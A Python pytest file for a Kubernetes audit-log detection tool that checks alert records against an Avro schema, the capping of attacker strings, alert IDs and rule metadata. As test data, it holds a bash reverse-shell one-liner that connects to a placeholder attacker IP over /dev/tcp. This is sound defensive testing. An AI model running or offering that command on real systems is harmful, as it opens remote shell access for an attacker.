"""Alert records match schemas/alert.avsc (checked by fastavro) and cap attacker strings."""

from __future__ import annotations

import io
import json
import random
import tomllib
import uuid
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta, timezone
from importlib.resources import files
from pathlib import Path
from typing import Any

import fastavro
import pytest
from fastavro.validation import validate

from auditstream.detections.alert import (
    MAX_LIST_ITEMS,
    MAX_STRING_CHARS,
    SourceRef,
    alert_id,
    build_alert,
    cap,
)
from auditstream.detections.event.audit_event import AuditEvent
from auditstream.detections.event.decode import decode_message
from auditstream.detections.rule_hit import Explanation
from auditstream.detections.ruleset.meta import RuleMeta
from auditstream.detections.values import Value
from devtools.traffic.synthetic import as_ecs, as_event_list, as_wrapped, exec_audit_events

RULES = Path(__file__).resolve().parents[2] / "detections" / "rules"
SCHEMA = fastavro.parse_schema(
    json.loads((files("auditstream.schemas") / "alert.avsc").read_text("utf-8"))
)
DETECTED = datetime(2025, 1, 15, 10, 5, tzinfo=UTC)
KAFKA = SourceRef(kind="kafka", topic="k8s-audit", partition=2, offset=41_234)
FILE = SourceRef(kind="file", file="examples/audit-sample.jsonl", line=17)

SHAPES: dict[str, Callable[[dict[str, Any]], object]] = {
    "event": lambda e: e,
    "event_list": lambda e: as_event_list([e]),
    "array": lambda e: [e],
    "ecs": as_ecs,
    "ecs_flattened": lambda e: as_ecs(e, layout="flattened"),
    "wrapped": as_wrapped,
}
FIELDS: dict[str, Value] = {
    "decoded_uri": "/api/v1/namespaces/default/pods/api-0/exec?command=sh&command=-c",
    "raw_commands": None,
    "Esql.executed_command": "sh -c bash -i >& /dev/tcp/198.51.100.5/4444 0>&1",
    "kubernetes.audit.sourceIPs": ("192.0.2.40", "198.51.100.1"),
    "kubernetes.audit.responseStatus.code": 101,
    "ratio": 0.5,
    "matched": True,
    "mixed": (1, "two", 3.0, False),
}


def _rule(name: str = "kubernetes_pod_exec_potential_reverse_shell.toml") -> RuleMeta:
    with (RULES / name).open("rb") as handle:
        return RuleMeta.from_rule_table(tomllib.load(handle)["rule"])


def _event(shape: str = "event", **kwargs: Any) -> AuditEvent:
    raw = exec_audit_events(
        command=["sh", "-c", "id"], client="rancher", rng=random.Random(9), **kwargs
    )[1]
    [event] = decode_message(json.dumps(SHAPES[shape](raw)).encode())
    return event


def _avro_round_trip(record: Mapping[str, Any]) -> Any:
    buffer = io.BytesIO()
    fastavro.schemaless_writer(buffer, SCHEMA, record)
    buffer.seek(0)
    return fastavro.schemaless_reader(buffer, SCHEMA, SCHEMA)


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize("source", [KAFKA, FILE], ids=["kafka", "file"])
def test_alert_record_validates_and_round_trips_through_avro(shape: str, source: SourceRef) -> None:
    event = _event(shape, start=DETECTED - timedelta(minutes=1))
    alert = build_alert(
        rule=_rule(),
        event=event,
        fields=FIELDS,
        source=source,
        detected_at=DETECTED,
        container="web",
        explanation=Explanation("dev_tcp_redirect", "bash -i >& /dev/tcp/198.51.100.5/4444 0>&1"),
        elastic_parity=True,
    )
    record = alert.to_record()
    assert validate(record, SCHEMA, raise_errors=True)
    assert _avro_round_trip(record) == record
    assert json.loads(alert.to_json()) == record


def test_minimal_alert_with_nulls_validates() -> None:
    audit = {"auditID": "a-1", "stage": "Panic", "verb": "get", "requestURI": "/"}
    alert = build_alert(
        rule=_rule(),
        event=AuditEvent(audit, None, "event"),
        fields={"only_null": None},
        source=SourceRef(kind="file", file="x.jsonl", line=1),
        detected_at=DETECTED,
    )
    record = alert.to_record()
    assert validate(record, SCHEMA, raise_errors=True)
    assert _avro_round_trip(record) == record
    assert record["event"]["user"] == {"username": None, "groups": []}
    assert record["event"]["impersonated_user"] is None
    assert record["explanation"] is None and record["elastic_parity"] is None


def test_event_ref_carries_the_schema_fields() -> None:
    alert = build_alert(
        rule=_rule(),
        event=_event("ecs", start=DETECTED),
        fields={},
        source=KAFKA,
        detected_at=DETECTED,
        container="web",
    )
    event = alert.to_record()["event"]
    assert event["stage"] == "ResponseStarted" and event["verb"] == "get"
    assert event["decision"] == "allow" and event["response_code"] == 101
    assert event["impersonated_user"]["username"] == "u-7xk2p"
    assert event["source_ips"] == ["192.0.2.40"]
    assert event["object_ref"] == {
        "resource": "pods",
        "namespace": "default",
        "name": "web-6f7d8b9c5d-4kx2p",
        "container": "web",
        "subresource": "exec",
    }
    assert event["timestamp"].startswith("2025-01-15T10:05:00.")


def test_record_keys_follow_the_schema_order() -> None:
    alert = build_alert(
        rule=_rule(), event=_event(), fields=FIELDS, source=KAFKA, detected_at=DETECTED
    )
    schema = json.loads((files("auditstream.schemas") / "alert.avsc").read_text("utf-8"))
    assert list(json.loads(alert.to_json())) == [f["name"] for f in schema["fields"]]
    assert ", " not in alert.to_json()[:40]  # compact separators


def test_multi_values_become_arrays_and_types_survive_avro() -> None:
    alert = build_alert(
        rule=_rule(), event=_event(), fields=FIELDS, source=KAFKA, detected_at=DETECTED
    )
    fields = _avro_round_trip(alert.to_record())["fields"]
    assert fields["kubernetes.audit.sourceIPs"] == ["192.0.2.40", "198.51.100.1"]
    assert fields["mixed"] == [1, "two", 3.0, False]
    assert fields["matched"] is True and fields["raw_commands"] is None


def test_cap_marks_truncation_explicitly() -> None:
    assert cap("short") == "short"
    text = "A" * (MAX_STRING_CHARS + 10)
    assert cap(text) == "A" * MAX_STRING_CHARS + "...[truncated 10 chars]"
    assert cap("abcdef", limit=4) == "abcd...[truncated 2 chars]"


def test_attacker_strings_are_capped_everywhere() -> None:
    long_uri = "/api/v1/namespaces/d/pods/p/exec?command=" + "x" * 20_000
    audit = {
        "auditID": "a-2",
        "stage": "ResponseComplete",
        "verb": "create",
        "requestURI": long_uri,
        "userAgent": "U" * 9_000,
        "user": {"username": "n" * 9_000, "groups": ["g"] * (MAX_LIST_ITEMS + 5)},
        "sourceIPs": ["203.0.113.1"] * (MAX_LIST_ITEMS + 1),
    }
    alert = build_alert(
        rule=_rule(),
        event=AuditEvent(audit, None, "event"),
        fields={"Esql.executed_command": "y" * 10_000, "many": ("z",) * (MAX_LIST_ITEMS + 2)},
        source=KAFKA,
        detected_at=DETECTED,
        explanation=Explanation("curl_https", "c" * 9_000),
    )
    record = alert.to_record()
    event = record["event"]
    assert event["request_uri"].endswith(f"...[truncated {len(long_uri) - MAX_STRING_CHARS} chars]")
    assert event["user_agent"].endswith("...[truncated 808 chars]")
    assert event["user"]["username"].endswith("...[truncated 808 chars]")
    assert event["user"]["groups"][-1] == "...[truncated 5 items]"
    assert len(event["source_ips"]) == MAX_LIST_ITEMS + 1
    assert record["fields"]["Esql.executed_command"].endswith("...[truncated 1808 chars]")
    assert record["fields"]["many"][-1] == "...[truncated 2 items]"
    assert record["explanation"]["simple_command"].endswith("...[truncated 808 chars]")
    assert validate(record, SCHEMA, raise_errors=True)


def test_lone_surrogates_and_out_of_range_numbers_still_encode() -> None:
    audit = {"auditID": "a\ud800", "stage": "s", "verb": "v", "requestURI": "/x\udfff"}
    alert = build_alert(
        rule=_rule(),
        event=AuditEvent(audit, None, "event"),
        fields={"huge": 2**70, "nan": float("nan"), "mv": (1.0, float("inf"), "a\ud800")},
        source=KAFKA,
        detected_at=DETECTED,
    )
    record = alert.to_record()
    assert record["event"]["request_uri"] == "/x\ufffd"
    assert record["fields"] == {"huge": str(2**70), "nan": None, "mv": [1.0, "a\ufffd"]}
    alert.to_json().encode("utf-8")
    assert _avro_round_trip(record) == record


def test_alert_id_is_uuid5_of_audit_id_under_the_rule() -> None:
    rule_id = "f1a2b3c4-d5e6-4789-a012-3456789abc01"
    expected = str(uuid.uuid5(uuid.UUID(rule_id), "audit-1"))
    assert alert_id(rule_id, "audit-1") == expected
    assert alert_id(rule_id, "audit-1") != alert_id(rule_id, "audit-2")
    slug_namespace = uuid.uuid5(uuid.NAMESPACE_URL, "auditstream:rule:native-reverse-shell")
    assert alert_id("native-reverse-shell", "audit-1") == str(uuid.uuid5(slug_namespace, "audit-1"))
    alert = build_alert(rule=_rule(), event=_event(), fields={}, source=KAFKA, detected_at=DETECTED)
    assert alert.alert_id == alert_id(_rule().rule_id, alert.event.audit_id)


def test_detected_at_is_rfc3339_utc_and_must_be_aware() -> None:
    plus_two = datetime(2025, 1, 15, 12, 0, tzinfo=timezone(timedelta(hours=2)))
    alert = build_alert(rule=_rule(), event=_event(), fields={}, source=KAFKA, detected_at=plus_two)
    assert alert.detected_at == "2025-01-15T10:00:00.000000Z"
    with pytest.raises(ValueError, match="timezone"):
        build_alert(
            rule=_rule(),
            event=_event(),
            fields={},
            source=KAFKA,
            detected_at=datetime(2025, 1, 15),  # naive on purpose
        )


def test_rule_ref_copies_threat_mapping() -> None:
    rule = _rule("kubernetes_pod_exec_curl_or_wget_to_https.toml")
    record = build_alert(
        rule=rule, event=_event(), fields={}, source=KAFKA, detected_at=DETECTED
    ).to_record()["rule"]
    assert record["id"] == "c9d4e8f1-2a3b-4c5d-8e9f-0a1b2c3d4e5f"
    assert record["severity"] == "high" and record["risk_score"] == 73
    assert [t["tactic"]["id"] for t in record["threat"]] == ["TA0002", "TA0011"]
    assert record["threat"][1]["techniques"][0] == {
        "id": "T1105",
        "name": "Ingress Tool Transfer",
        "reference": "https://attack.mitre.org/techniques/T1105/",
        "subtechniques": [],
    }


def test_rule_record_carries_scheduling_and_index_metadata() -> None:
    """What the SIEM needs to treat the alert like the original rule's: type, indices, from and
    interval (an ES|QL rule's indices are those of its FROM)."""
    rule = _rule("kubernetes_pod_exec_curl_or_wget_to_https.toml")
    record = build_alert(
        rule=rule, event=_event(), fields={}, source=KAFKA, detected_at=DETECTED
    ).to_record()
    assert {k: record["rule"][k] for k in ("type", "from", "interval")} == {
        "type": "esql",
        "from": "now-6m",
        "interval": "5m",
    }
    assert _avro_round_trip(record)["rule"]["from"] == "now-6m"
